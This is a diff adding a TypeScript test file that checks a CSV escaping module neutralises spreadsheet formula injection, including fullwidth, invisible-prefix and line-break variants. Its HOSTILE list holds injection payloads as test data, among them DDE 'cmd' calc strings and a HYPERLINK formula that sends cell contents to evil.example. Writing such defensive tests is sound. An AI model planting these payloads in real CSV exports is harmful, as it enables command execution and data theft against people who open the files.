@@ -1,0 +1,67 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { csvCell, csvRow } from '../../../domain/companies/csv-cell.ts';
+
+/** Cells as RFC 4180 reads them. */
+function parsed(csv: string): string[][] {
+  const rows: string[][] = [[]];
+  for (let at = 0, cell = ''; at <= csv.length; at += 1) {
+    if (csv[at] === '"' && cell === '') {
+      const end = /^"((?:[^"]|"")*)"/.exec(csv.slice(at))!;
+      cell = end[1]!.replaceAll('""', '"');
+      at += end[0].length - 1;
+      if (cell === '') { rows.at(-1)!.push(''); at += 1; if (csv[at] === '\r') { rows.push([]); at += 1; } }
+    } else if (csv[at] === ',' || csv[at] === undefined || csv.startsWith('\r\n', at)) {
+      rows.at(-1)!.push(cell);
+      cell = '';
+      if (csv[at] === '\r') { rows.push([]); at += 1; }
+    } else cell += csv[at];
+  }
+  return rows.slice(0, -1);
+}
+
+/** Whether a program that drops what does not show would see a formula. */
+const isLive = (cell: string): boolean => /^[=+\-@]/.test(cell.normalize('NFKC').replace(/^[\s\p{Z}\p{C}"]+/u, '').replace('−', '-'));
+
+const HOSTILE = [
+  '=1+1', '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', ' =1+1', '   +1', '\u00A0=1+1', '\u3000=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u202E=1+1',
+  '＝1+1', '＋1', '－1', '＠SUM(A1)', '﹦1', '﹢1', '﹣1', '﹫A1', '−1', '"=1+1', '""=1+1', "'=1+1", '\u0001=1+1', '=cmd|\'/c calc\'!A0', '=HYPERLINK("http://evil.example?"&A1,"x")',
+  '@import', '-2+3+cmd|\' /c calc\'!A0', '+44 20 7946 0000', '=1+1\r\nEve,=2+2', 'a;=1+1', 'a\n=1+1', 'a\r\n"=1+1', 'a\t=1+1', 'x;;  @SUM(1)', '\t', '\0',
+];
+
+test.each(HOSTILE)('%j is text in every spreadsheet, and still one cell', (text) => {
+  const [row, ...others] = parsed(csvRow(['Ada', text, 'Verne']));
+  expect(others).toEqual([]);
+  expect(row).toHaveLength(3);
+  const [, cell = ''] = row!;
+  expect(isLive(cell)).toBe(false);
+  // Where a semicolon, a tab or a line break parts cells, and quotes that do not come first are letters.
+  for (const part of csvRow(['Ada', text, 'Verne']).split(/[;\t\r\n]/)) expect(isLive(part)).toBe(false);
+  expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
+});
+
+test('what is no formula stays as it is, letter by letter', () => {
+  for (const text of ['', 'Ada', 'Marlow, Grace', 'says "hi"', 'two\r\nlines', 'a-b+c=d@e', 'ada@example.org', '1,5', 'Å;ß', '名前', ' leads with a blank']) {
+    expect(parsed(csvRow([text, 'x']))).toEqual([[text, 'x']]);
+  }
+});
+
+test('cells are quoted when something in them asks for it', () => {
+  expect([csvCell('Ada'), csvCell('a,b'), csvCell('a"b'), csvCell('=1')]).toEqual(['Ada', '"a,b"', '"a""b"', "'=1"]);
+});
+
+test('whatever people write, rows hold and nothing is live', () => {
+  fc.assert(fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
+    const rows = parsed(csvRow(cells));
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toHaveLength(cells.length);
+    expect(rows[0]!.some(isLive)).toBe(false);
+  }), { numRuns: 40 });
+});
+
+test('a cell of nothing but blanks takes no time', () => {
+  const began = performance.now();
+  csvCell('\t'.repeat(100_000));
+  csvCell(`a${'; '.repeat(50_000)}`);
+  expect(performance.now() - began).toBeLessThan(2000);
+});
